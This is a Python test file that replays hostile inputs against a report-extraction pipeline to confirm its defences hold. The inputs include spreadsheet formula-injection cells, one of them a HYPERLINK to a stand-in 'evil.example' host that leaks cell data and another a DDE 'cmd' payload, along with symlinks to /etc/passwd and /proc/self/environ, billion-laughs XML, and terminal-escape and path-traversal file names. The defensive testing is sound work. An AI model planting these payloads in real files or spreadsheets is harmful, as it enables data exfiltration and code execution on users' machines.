"""The attack of issue 21, replayed: no export runs code, nothing outside the input is read, and a
record always belongs to the bytes it came from.

Each test is one thing an attacker (or an unlucky archive) tried: cells that spreadsheets run as
formulas, symlinks to files outside the input, a file rewritten while it is read, a one-paragraph
report of many MB, text reports with a NUL byte or saved as UTF-16, file names with control
characters, a held lock, kill -9 of the CLI, a full disk, billion-laughs XML, and byte-level mutants
of real reports.  The shared hostile files are in ``../shared/hostile``; the rest is made here.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import shutil
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from pathlib import Path

import openpyxl
import psutil
import pytest
from click.testing import CliRunner
from conftest import RAW, SHARED

from extractors import UnsupportedFormat, extractor_for
from pipeline import batch
from pipeline.batch import OUTSIDE_LINK, process_document, run_batch, walk_inputs
from pipeline.cli import EXIT_LOCKED, cli
from pipeline.export import FORMULA_TRIGGERS
from pipeline.guard import stop_runner
from pipeline.run import MAX_DROPPED_CHARS, MAX_DROPPED_PIECE_CHARS, MAX_DROPPED_PIECES, run_document
from pipeline.store import open_store, read_table

HOSTILE = SHARED / "hostile"
FORMULAS = HOSTILE / "formula-injection-cells-exported-as-live-xlsx-formulas.txt"
NUL_TEXT = HOSTILE / "seed004-with-one-NUL-byte-at-100-rejected-E101-not-text.txt"
UTF16_TEXT = HOSTILE / "seed004-as-utf16-with-BOM-rejected-E101.txt"
SEED_002 = RAW / "002_be210f0cadcd6921.txt"      # 11 records
SEED_004 = RAW / "004_59fe58fd6413823e.txt"      # 21 records
DOCX_SEED = Path(__file__).resolve().parent / "data" / "docx" / "seed-002.docx"
FORMULA_NAME = '=HYPERLINK("http:x","y").txt'
CLI = [sys.executable, "-m", "pipeline.cli", "run", "--no-progress", "--workers", "2", "--no-tag"]
CANARY = "CANARY-21-OUTSIDE-THE-INPUT"


def run_cli(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, check=False, **kw)


def sha16(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()[:16]


def test_a_file_named_pdf_that_is_not_one_says_so_in_plain_words(tmp_path: Path) -> None:
    """Random bytes under a report's name (a new user's trial: the message quoted Python bytes)."""
    path = tmp_path / "rapport annuel – café.pdf"
    path.write_bytes(b"s\xed\xb9\xf3p_\\\xa3\x02\x03" + bytes(range(256)) * 8)
    with pytest.raises(UnsupportedFormat) as refused:
        extractor_for(path)
    assert str(refused.value) == (
        "rapport annuel – café.pdf: named .pdf but its content is not a PDF: the file is damaged, or another kind "
        "of file saved under that name; open it to check, or get the report again from its source")
    assert run_document(path, tag=False).document.error_code == "E101"


# ------------------------------------------------------------------------------------------------
# Exports run no code.

@pytest.fixture(scope="module")
def formula_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The formula-injection report, and a real report under a file name that is a formula."""
    inputs = tmp_path_factory.mktemp("formulas")
    shutil.copy(FORMULAS, inputs / FORMULAS.name)
    shutil.copy(SEED_002, inputs / FORMULA_NAME)
    out = inputs.parent / "formulas-out"
    result = CliRunner().invoke(cli, ["run", str(inputs), "--out", str(out), "--workers", "2", "--no-tag"])
    assert result.exit_code == 0, result.output
    return out


HOSTILE_CELLS = {   # column -> text of the formula-injection report that a spreadsheet would run
    "action": '=HYPERLINK("http://evil.example/?x="&A1,"click") We will publish',
    "progress": "=cmd|' /C calc'!A0",
    "responsible": "=1+1",
}


def export(dataset: Path, tmp_path: Path, fmt: str, table: str) -> Path:
    out = tmp_path / f"{table}.{fmt}"
    result = CliRunner().invoke(cli, ["export", "--data", str(dataset), "--to", fmt, "--table", table, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize("table", ["records", "documents"])
def test_an_excel_export_holds_no_formula_and_shows_the_text_as_it_is(formula_dataset, tmp_path, table) -> None:
    book = openpyxl.load_workbook(export(formula_dataset, tmp_path, "xlsx", table))
    sheet = book[table]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    if table == "records":
        [row] = [r for r in rows if r["action"] == HOSTILE_CELLS["action"]]
        assert (row["progress"], row["responsible"]) == (HOSTILE_CELLS["progress"], HOSTILE_CELLS["responsible"])
        assert sum(1 for r in rows if r["source_file"] == FORMULA_NAME) == 11
        quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
        assert quoted and all(c.quotePrefix and c.data_type == "s" for c in quoted)
    else:
        assert FORMULA_NAME in {r["source_file"] for r in rows}


def test_csv_export_and_query_csv_put_a_quote_before_every_formula(formula_dataset, tmp_path) -> None:
    with export(formula_dataset, tmp_path, "csv", "records").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [v for r in rows for v in r.values() if v.startswith(FORMULA_TRIGGERS)] == []
    [row] = [r for r in rows if r["action"] == "'" + HOSTILE_CELLS["action"]]
    assert (row["progress"], row["responsible"]) == ("'=cmd|' /C calc'!A0", "'=1+1")
    assert sum(1 for r in rows if r["source_file"] == "'" + FORMULA_NAME) == 11
    queried = CliRunner().invoke(cli, ["query", "select action, responsible, source_file from records order by seq, "
                                       "source_file", "--data", str(formula_dataset), "-f", "csv"])
    assert queried.exit_code == 0, queried.output
    values = [v for r in csv.reader(io.StringIO(queried.output)) for v in r]
    assert "'" + HOSTILE_CELLS["action"] in values and "'@SUM(A1) | HR" in values
    assert [v for v in values if v.startswith(FORMULA_TRIGGERS)] == []


def test_json_keeps_the_text_unchanged(formula_dataset, tmp_path) -> None:
    import json

    rows = json.loads(export(formula_dataset, tmp_path, "json", "records").read_text(encoding="utf-8"))
    assert HOSTILE_CELLS["action"] in {r["action"] for r in rows}


def test_export_help_says_formulas_are_neutralised() -> None:
    text = " ".join(CliRunner().invoke(cli, ["export", "--help"]).output.split())
    assert "gets a leading ' in csv and is a text cell (quote prefix) in xlsx, so no cell ever runs" in text
    assert "gets a leading '" in " ".join(CliRunner().invoke(cli, ["query", "--help"]).output.split())


# ------------------------------------------------------------------------------------------------
# Nothing outside the input is read.

@pytest.fixture
def linked_folder(tmp_path: Path) -> tuple[Path, Path]:
    """An input folder with a report, links to files outside it (a report holding a canary, /etc/passwd,
    /proc/self/environ, a device), and a link to a file inside it."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    secret = outside / "secret-report.txt"
    secret.write_bytes(SEED_002.read_bytes() + f"\n{CANARY}\n".encode())
    inputs = tmp_path / "in"
    (inputs / "sub").mkdir(parents=True)
    shutil.copy(SEED_004, inputs / "sub" / "report.txt")
    (inputs / "to-secret.txt").symlink_to(secret)
    (inputs / "passwd.txt").symlink_to("/etc/passwd")
    (inputs / "environ.txt").symlink_to("/proc/self/environ")
    (inputs / "relative-escape.txt").symlink_to(Path("..") / "elsewhere" / secret.name)
    (inputs / "zero.pdf").symlink_to("/dev/zero")
    (inputs / "inside-link.txt").symlink_to(Path("sub") / "report.txt")
    return inputs, secret


def test_links_to_files_outside_the_inputs_are_not_followed(linked_folder, tmp_path) -> None:
    inputs, secret = linked_folder
    walk = walk_inputs([inputs])
    reasons = {Path(s.path).name: s.reason for s in walk.skips}
    assert reasons == {
        "to-secret.txt": OUTSIDE_LINK, "passwd.txt": OUTSIDE_LINK, "environ.txt": OUTSIDE_LINK,
        "relative-escape.txt": OUTSIDE_LINK, "zero.pdf": "not a regular file: a character device",
    }
    assert [p.name for p in walk.files] == ["inside-link.txt", "report.txt"]
    out = tmp_path / "out"
    result = run_cli(str(inputs), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert f"  4 {OUTSIDE_LINK}: " in result.stdout
    everything = str(read_table(out, "documents").to_pylist()) + str(read_table(out, "records").to_pylist())
    assert CANARY not in everything and "root:x:0" not in everything and "PATH=" not in everything
    # The two paths to the one report inside are one document (a duplicate), 21 records.
    assert [d["n_records"] for d in read_table(out, "documents").to_pylist()] == [21]


def test_follow_symlinks_takes_them_and_a_named_link_is_always_taken(linked_folder, tmp_path) -> None:
    inputs, secret = linked_folder
    followed = walk_inputs([inputs], follow_symlinks=True)
    assert {p.name for p in followed.files} >= {"to-secret.txt", "passwd.txt", "relative-escape.txt"}
    assert {Path(s.path).name: s.reason for s in followed.skips} == {"zero.pdf": "not a regular file: a character device"}
    assert walk_inputs([inputs / "to-secret.txt"]).files == (inputs / "to-secret.txt",)
    help_text = " ".join(CliRunner().invoke(cli, ["run", "--help"]).output.split())
    assert "--follow-symlinks Follow symlinks in the folders whose target is outside every input" in help_text


# ------------------------------------------------------------------------------------------------
# What a document lost is stored up to a bound; what a worker sends back is bounded.

def test_a_report_that_is_one_huge_paragraph_gets_a_row_with_a_bounded_dropped(tmp_path: Path) -> None:
    path = tmp_path / "one-paragraph.txt"
    paragraph = "Residents said " + "the plan is long and " * 150_000      # 3 MB
    path.write_text(paragraph + "\n", encoding="utf-8")
    result, _ = process_document(str(path), tag=False)
    doc = result.document
    assert doc.error_code == "E110"
    assert doc.seconds > 0
    texts = [d.text for d in doc.dropped]
    assert len(doc.dropped) == 2 and doc.dropped[0].kind == "unused" and doc.dropped[-1].kind == "more"
    assert len(texts[0]) == MAX_DROPPED_PIECE_CHARS + len(" [...]")
    assert texts[1] == f"{len(paragraph.strip()) - MAX_DROPPED_PIECE_CHARS:,} more characters of text dropped by " \
                       "this document not stored (1 piece cut short)"


def test_many_unused_paragraphs_are_stored_up_to_the_bound_and_the_review_says_how_many_more(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    paragraphs = [f"Residents asked about item {i} of the plan at the meeting." for i in range(700)]
    (folder / "notes.txt").write_text("\n\n".join(paragraphs) + "\n", encoding="utf-8")
    doc = run_document(folder / "notes.txt", tag=False).document
    kept = [d for d in doc.dropped if d.kind != "more"]
    assert len(kept) == MAX_DROPPED_PIECES
    assert sum(len(d.text) for d in kept) <= MAX_DROPPED_CHARS
    more = doc.dropped[-1]
    assert more.kind == "more" and more.text.startswith(f"{700 - MAX_DROPPED_PIECES:,} more pieces (")
    out = tmp_path / "review.html"
    result = CliRunner().invoke(cli, ["review", str(folder), "--out", str(out)])
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert more.text in page and "not stored (over the limit)" in page


def test_a_result_too_large_to_send_back_is_an_E113_row(monkeypatch) -> None:
    stop_runner()                       # the next runner is forked with the small bound below
    monkeypatch.setattr(batch, "MAX_RESULT_MB", 0.001)
    try:
        result, _ = process_document(str(SEED_004), tag=False)
    finally:
        stop_runner()
    doc = result.document
    assert (doc.error_code, doc.n_records, doc.doc_id) == ("E113", 0, sha16(SEED_004.read_bytes()))
    assert doc.error.startswith("004_59fe58fd6413823e.txt: its 21 records and text come to 0 MB, over the 0.001 MB")


# ------------------------------------------------------------------------------------------------
# Each document is read once: the bytes hashed are the bytes parsed.

def test_a_file_rewritten_while_runs_read_it_never_gets_a_mixed_row(tmp_path: Path) -> None:
    """A writer swaps two versions of a report in a tight loop (as a sync client or an editor's save
    does) while the report is run 200 times: every row's doc_id is the hash of the version its records
    come from."""
    versions = {sha16(p.read_bytes()): p.read_bytes() for p in (SEED_002, SEED_004)}
    actions = {doc_id: [r.action for r in run_document(SEED_002 if data == SEED_002.read_bytes() else SEED_004,
                                                        tag=False).records]
               for doc_id, data in versions.items()}
    path = tmp_path / "report.txt"
    path.write_bytes(SEED_002.read_bytes())
    stop = threading.Event()

    def rewrite() -> None:
        datas = list(versions.values())
        n = 0
        while not stop.is_set():
            tmp = tmp_path / f".report-{n % 2}.tmp"
            tmp.write_bytes(datas[n % 2])
            os.replace(tmp, path)
            n += 1

    writer = threading.Thread(target=rewrite, daemon=True)
    writer.start()
    seen: dict[str, int] = {}
    mixed = 0
    try:
        for _ in range(200):
            result = run_document(path, tag=False)
            doc_id = result.document.doc_id
            seen[doc_id] = seen.get(doc_id, 0) + 1
            mixed += [r.action for r in result.records] != actions.get(doc_id)
    finally:
        stop.set()
        writer.join()
    assert mixed == 0
    assert set(seen) == set(versions), seen        # both versions were read: the race was real


def test_a_file_that_never_stops_changing_gets_a_named_error(tmp_path: Path, monkeypatch) -> None:
    import pipeline.intake as intake

    path = tmp_path / "growing.txt"
    path.write_bytes(SEED_002.read_bytes())
    real_copy = intake._copy_fd

    def copy_then_append(fd, src, target, max_bytes):
        copied = real_copy(fd, src, target, max_bytes)
        with src.open("ab") as f:          # the writer adds a line during every read
            f.write(b"more\n")
        return copied

    monkeypatch.setattr(intake, "_copy_fd", copy_then_append)
    doc = run_document(path, tag=False).document
    assert (doc.error_code, doc.n_records) == ("E111", 0)
    assert doc.error == ("growing.txt: changed while it was being read, 3 times in a row (something is writing to it); "
                         "run it again once it is saved")


# ------------------------------------------------------------------------------------------------
# Readable reports are read.

def test_a_text_report_with_a_nul_byte_is_read_and_the_byte_named() -> None:
    doc = run_document(NUL_TEXT, tag=False).document
    assert (doc.error_code, doc.n_records, doc.format) == (None, 21, "text")
    assert doc.warnings[0] == "W122 1 stray control bytes dropped from the text (0x00 at offset 100)"
    assert doc.doc_id == sha16(NUL_TEXT.read_bytes())


def test_stray_control_bytes_past_the_first_kilobytes_are_dropped_too(tmp_path: Path) -> None:
    data = SEED_004.read_bytes()
    path = tmp_path / "late-escape.txt"
    path.write_bytes(data[:5000] + b"\x1b[31m" + data[5000:7000] + b"\x00" + data[7000:])
    doc = run_document(path, tag=False).document
    assert (doc.error_code, doc.n_records) == (None, 21)
    assert doc.warnings[0] == "W122 2 stray control bytes dropped from the text (0x1b at offset 5000, 0x00 at offset 7005)"
    assert "\x00" not in str(run_document(path, tag=False).records)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-32-be"])
def test_a_text_report_saved_as_utf16_or_utf32_with_a_bom_is_read(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / f"{encoding}.txt"
    text = SEED_004.read_text(encoding="utf-8")
    bom = {"utf-16-be": "\ufeff", "utf-32-be": "\ufeff"}.get(encoding, "")
    path.write_bytes((bom + text).encode(encoding))
    doc = run_document(path, tag=False).document
    assert (doc.error_code, doc.n_records) == (None, 21)
    assert doc.warnings[0] == f"W121 text decoded as {encoding[:6].upper()} from its byte-order mark (the copy read is UTF-8)"
    shared = run_document(UTF16_TEXT, tag=False).document
    assert (shared.error_code, shared.n_records) == (None, 21)


def test_a_binary_file_is_refused_with_the_byte_and_offset_that_make_it_not_text(tmp_path: Path) -> None:
    path = tmp_path / "blob.txt"
    path.write_bytes(b"Equality\x01\x02\x03" + bytes(range(256)) * 8)
    with pytest.raises(UnsupportedFormat) as refused:
        extractor_for(path)
    assert str(refused.value) == (
        "blob.txt: not PDF, XLSX, ODS, DOCX, HTML or text (byte 0x01 at offset 8 is a control character, not text (219 such "
        "bytes in the first 2048); it starts b'Equality'); convert it to one of these formats first")
    assert run_document(path, tag=False).document.error_code == "E101"


# ------------------------------------------------------------------------------------------------
# Names, locks, seconds, entity expansion.

def test_hidden_names_are_counted_and_control_characters_in_names_are_escaped(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(SEED_002, inputs / "report.txt")
    for hidden in ("..\\..\\evil.txt", ".env", "~$report.docx"):
        (inputs / hidden).write_bytes(SEED_004.read_bytes())
    (inputs / ".git").mkdir()
    (inputs / "\x1b]0;owned\x07title.txt").write_bytes(b"")       # an OSC title sequence, and an empty file
    out = tmp_path / "out"
    result = run_cli(str(inputs), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == f"2 files: 1 ok, 1 failed, 0 skipped (unchanged), 11 records -> {out}"
    assert ("4 hidden files or folders passed over (names starting with '.' or '~$'); name a file explicitly to run "
            "it anyway") in lines
    assert any(line.startswith(f"  E105  1 file, e.g. {inputs}/\\x1b]0;owned\\x07title.txt: ") for line in lines)
    names = {d["source_file"] for d in read_table(out, "documents").to_pylist()}
    assert names == {"report.txt", "\\x1b]0;owned\\x07title.txt"}


def test_a_held_lock_exits_with_the_documented_status(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with open_store(out):
        result = run_cli(str(SEED_002), "--out", str(out))
    assert result.returncode == EXIT_LOCKED == 75
    assert result.stderr == (f"Error: {out}: another council-extract run is writing here; wait for it to finish or "
                             "choose another --out folder\n")
    help_text = " ".join(CliRunner().invoke(cli, ["run", "--help"]).output.split())
    assert "75 when another run is writing the same --out folder (its lock is held: nothing was run; try again later)" \
        in help_text


def test_every_row_has_its_seconds_even_a_timed_out_one(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    rows = "".join(f"<tr><td rowspan=0>x{i}</td></tr>" for i in range(20_000))
    (folder / "slow.html").write_text(f"<html><body><table><tr><th>Action</th><th>Progress</th></tr>{rows}"
                                      "</table></body></html>")
    shutil.copy(SEED_002, folder / "ok.txt")
    (folder / "empty.txt").write_bytes(b"")
    from extractors import Settings

    run_batch([folder], tmp_path / "out", workers=1, settings=Settings(max_seconds=1), tag=False)
    docs = {d["source_file"]: d for d in read_table(tmp_path / "out", "documents").to_pylist()}
    assert docs["slow.html"]["error_code"] == "E107" and docs["slow.html"]["seconds"] >= 1.0
    assert docs["ok.txt"]["seconds"] > 0 and docs["empty.txt"]["seconds"] > 0


def docx_with(edit, out: Path) -> Path:
    """A copy of the seed DOCX whose word/document.xml is ``edit(xml)``."""
    src = zipfile.ZipFile(io.BytesIO(DOCX_SEED.read_bytes()))
    xml = src.read("word/document.xml").decode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, edit(xml).encode() if info.filename == "word/document.xml"
                         else src.read(info.filename))
    out.write_bytes(buf.getvalue())
    return out


LAUGHS = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def billion_laughs(xml: str) -> str:
    xml = xml.replace("?>", f"?><!DOCTYPE w:document [{LAUGHS}]>", 1)
    first = xml.index("<w:t>") + len("<w:t>")
    return xml[:first] + "&lol9;" + xml[first:]


def test_entity_expansion_is_refused_by_name_in_docx_and_html(tmp_path: Path) -> None:
    docx = run_document(docx_with(billion_laughs, tmp_path / "laughs.docx"), tag=False).document
    assert (docx.error_code, docx.error) == ("E112", "laughs.docx: refused: entity expansion (the entity 'lol1' is "
                                             "defined by other entities, a \"billion laughs\" attack); nothing in it "
                                             "was read")
    html = tmp_path / "laughs.html"
    html.write_text(f"<!DOCTYPE html [{LAUGHS}]><html><body><table><tr><th>Action</th></tr><tr><td>&lol9;</td></tr>"
                    "</table></body></html>")
    assert run_document(html, tag=False).document.error_code == "E112"
    # External entities are not expansion: the XXE canary is read, its entity left out (W107), as before.
    xxe = run_document(HOSTILE / "hostile-xxe-canary.docx", tag=False).document
    assert xxe.error_code is None and any(w.startswith("W107") for w in xxe.warnings)


def test_libxml_limits_never_tell_the_user_to_switch_them_off(tmp_path: Path) -> None:
    def deep(xml: str) -> str:
        first = xml.index("<w:t>")
        return xml[:first] + "<w:x>" * 300 + "</w:x>" * 300 + xml[first:]

    def huge(xml: str) -> str:
        first = xml.index("<w:t>") + len("<w:t>")
        return xml[:first] + "x" * 11_000_000 + xml[first:]

    for edit in (deep, huge):
        doc = run_document(docx_with(edit, tmp_path / f"{edit.__name__}.docx"), tag=False).document
        assert doc.error_code == "E102"
        assert "XML_PARSE_HUGE" not in doc.error and doc.error.startswith(f"{edit.__name__}.docx: Word document is damaged")
    from pipeline.run import user_message

    assert user_message("x.docx: damaged (Excessive depth in document: 256 use XML_PARSE_HUGE option)") == \
        "x.docx: damaged (Excessive depth in document: 256)"


# ------------------------------------------------------------------------------------------------
# kill -9: no orphan outlives the CLI by more than 2 s; the re-run does every file exactly once.

ORPHAN_GRACE_S = 2.0


def marked(mark: str) -> list[psutil.Process]:
    """Every live process started with COUNCIL_ATTACK_MARK=mark in its environment."""
    found = []
    for p in psutil.process_iter():
        try:
            if p.environ().get("COUNCIL_ATTACK_MARK") == mark and p.status() != psutil.STATUS_ZOMBIE:
                found.append(p)
        except (psutil.Error, OSError):
            continue
    return found


@pytest.fixture(scope="module")
def kill_inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Twelve reports, three of them slow pages, so a kill lands while documents run."""
    folder = tmp_path_factory.mktemp("kill")
    for i in range(9):
        (folder / f"report-{i}.txt").write_bytes(SEED_004.read_bytes() + b"\n" * i)
    rows = "".join(f"<tr><td>Action {i}</td><td>On track</td></tr>" for i in range(6000))
    for i in range(3):
        (folder / f"slow-{i}.html").write_text(
            f"<html><body><table><tr><th>Action</th><th>Progress</th></tr>{rows}</table>{'<p>x</p>' * i}</body></html>")
    return folder


def kill_and_time(inputs: Path, out: Path, after: float) -> float:
    """Start the CLI, SIGKILL it ``after`` seconds later; return how long its last process outlived it."""
    mark = uuid.uuid4().hex
    proc = subprocess.Popen([*CLI, str(inputs), "--out", str(out)], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env={**os.environ, "COUNCIL_ATTACK_MARK": mark})
    time.sleep(after)
    proc.kill()
    proc.wait()
    killed = time.monotonic()
    while marked(mark) and time.monotonic() - killed < 30:
        time.sleep(0.05)
    lasted = time.monotonic() - killed
    assert marked(mark) == [], "processes still alive 30 s after the CLI was killed"
    return lasted


@pytest.mark.slow
def test_kill_9_of_the_cli_leaves_no_orphan_and_the_rerun_does_every_file_once(kill_inputs: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    lasted = [kill_and_time(kill_inputs, out, after) for after in (0.4, 2.5)]
    assert max(lasted) <= ORPHAN_GRACE_S, lasted
    rerun = run_cli(str(kill_inputs), "--out", str(out))
    assert rerun.returncode == 0, rerun.stderr
    documents = read_table(out, "documents").to_pylist()
    records = read_table(out, "records").to_pylist()
    assert sorted(d["source_file"] for d in documents) == sorted(p.name for p in kill_inputs.iterdir())
    assert len({d["doc_id"] for d in documents}) == len(documents) == 12
    assert len({r["record_id"] for r in records}) == len(records)
    by_doc: dict[str, int] = {}
    for r in records:
        by_doc[r["source_file"]] = by_doc.get(r["source_file"], 0) + 1
    assert {d["source_file"]: d["n_records"] for d in documents} == by_doc
    assert all(by_doc[f"report-{i}.txt"] == 21 for i in range(9))


@pytest.mark.slow
def test_kill_9_at_any_moment_leaves_no_orphan_for_more_than_2_s(kill_inputs: Path, tmp_path: Path) -> None:
    lasted = [kill_and_time(kill_inputs, tmp_path / "out", after) for after in (0.1, 0.8, 1.5, 3.0, 5.0, 8.0)]
    assert max(lasted) <= ORPHAN_GRACE_S, lasted


# ------------------------------------------------------------------------------------------------
# A full disk: the private copies' TMPDIR, and the output.

@pytest.fixture
def tiny_tmpfs(tmp_path: Path):
    """A 256 kB tmpfs (root only)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
                                           check=False, capture_output=True).returncode != 0:
        pytest.skip("mounting a small tmpfs needs root (CAP_SYS_ADMIN) to fill a real disk")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_full_tmpdir_fails_the_file_that_does_not_fit_by_name_and_the_run_goes_on(tiny_tmpfs: Path,
                                                                                      tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(SEED_002, inputs / "small.txt")
    (inputs / "big.txt").write_bytes(SEED_004.read_bytes() * 40)        # about 600 kB: no room for its copy
    out = tmp_path / "out"
    result = run_cli(str(inputs), "--out", str(out), env={**os.environ, "TMPDIR": str(tiny_tmpfs)})
    assert result.returncode == 0, result.stderr
    docs = {d["source_file"]: d for d in read_table(out, "documents").to_pylist()}
    assert docs["small.txt"]["n_records"] == 11
    assert docs["big.txt"]["error_code"] == "E900"
    assert f"cannot write a private copy in {tiny_tmpfs}" in docs["big.txt"]["error"]
    assert "point TMPDIR at a folder with room" in docs["big.txt"]["error"]
    assert list(tiny_tmpfs.iterdir()) == []                         # no copy left behind


def test_after_a_full_output_disk_the_rerun_does_every_file_once(tiny_tmpfs: Path, tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    for i in range(40):
        (inputs / f"{i:02d}.txt").write_bytes(SEED_004.read_bytes() + b"\n" * i)
    out = tiny_tmpfs / "out"
    full = run_cli(str(inputs), "--out", str(out))
    assert full.returncode == 2 and "no space left on the device" in full.stderr
    subprocess.run(["mount", "-o", "remount,size=64m", str(tiny_tmpfs)], check=True)
    rerun = run_cli(str(inputs), "--out", str(out))
    assert rerun.returncode == 0, rerun.stderr
    documents = read_table(out, "documents").to_pylist()
    assert sorted(d["source_file"] for d in documents) == sorted(p.name for p in inputs.iterdir())
    assert sum(d["n_records"] for d in documents) == len(read_table(out, "records")) == 40 * 21


# ------------------------------------------------------------------------------------------------
# The shared hostile files, replayed (the tar files and the slow PDF grid are tests/test_hostile.py's).

def test_the_shared_hostile_files_end_as_issue_21_expects(tmp_path: Path) -> None:
    inputs = tmp_path / "hostile"
    inputs.mkdir()
    for path in HOSTILE.iterdir():
        if path.suffix in (".txt", ".docx", ".html"):
            shutil.copy(path, inputs / path.name)
    out = tmp_path / "out"
    summary = run_batch([inputs], out, workers=2, tag=False)
    assert summary.files == 6
    docs = {d["source_file"]: d for d in read_table(out, "documents").to_pylist()}
    assert set(docs) == {p.name for p in inputs.iterdir()}
    assert docs[NUL_TEXT.name]["n_records"] == docs[UTF16_TEXT.name]["n_records"] == 21
    assert docs[FORMULAS.name]["n_records"] == 4
    assert docs["hostile-zipbomb-split.docx"]["error_code"] == "E106"
    assert docs["hostile-xxe-canary.docx"]["error_code"] is None
    assert all(d["seconds"] > 0 for d in docs.values())
    assert "XML_PARSE_HUGE" not in str(list(docs.values()))


# ------------------------------------------------------------------------------------------------
# Fuzz mutants of real reports: every one a row, none a crash, none a mixed row.

def mutants(folder: Path, per_seed: int) -> list[Path]:
    """Byte-level mutants (flips, cut tails, inserted control bytes, repeated blocks) of one report per format."""
    rng = random.Random(21)
    seeds = [SEED_004, DOCX_SEED, Path(__file__).resolve().parent / "data" / "html" / "seed-002.html",
             Path(__file__).resolve().parent / "data" / "pdf" / "seed-001-ruled.pdf"]
    made = []
    for seed in (s for s in seeds if s.exists()):
        data = seed.read_bytes()
        for n in range(per_seed):
            b = bytearray(data)
            kind = n % 4
            if kind == 0:
                for _ in range(rng.randint(1, 20)):
                    b[rng.randrange(len(b))] = rng.randrange(256)
            elif kind == 1:
                del b[rng.randrange(len(b) // 2, len(b)):]
            elif kind == 2:
                for _ in range(rng.randint(1, 5)):
                    b.insert(rng.randrange(len(b)), rng.choice(b"\x00\x01\x1b\x7f"))
            else:
                start = rng.randrange(len(b))
                b[start:start] = b[start:start + 512] * rng.randint(2, 50)
            path = folder / f"{seed.stem}-mutant-{n:02d}{seed.suffix}"
            path.write_bytes(bytes(b))
            made.append(path)
    return made


def test_fuzz_mutants_each_get_a_row_and_none_crashes(tmp_path: Path) -> None:
    folder = tmp_path / "mutants"
    folder.mkdir()
    made = mutants(folder, 8)
    assert len(made) >= 24
    out = tmp_path / "out"
    summary = run_batch([folder], out, workers=2, tag=False)
    documents = read_table(out, "documents").to_pylist()
    assert summary.files == len(made)
    assert len(documents) + summary.duplicates == len(made)       # every mutant a row (or a byte-identical copy)
    assert [d["error_code"] for d in documents if d["error_code"] in ("E900", "E901")] == []
    for d in documents:   # a row's doc_id is the hash of the bytes on disk (nothing rewrote them)
        assert d["doc_id"] == sha16((folder / d["source_file"]).read_bytes())
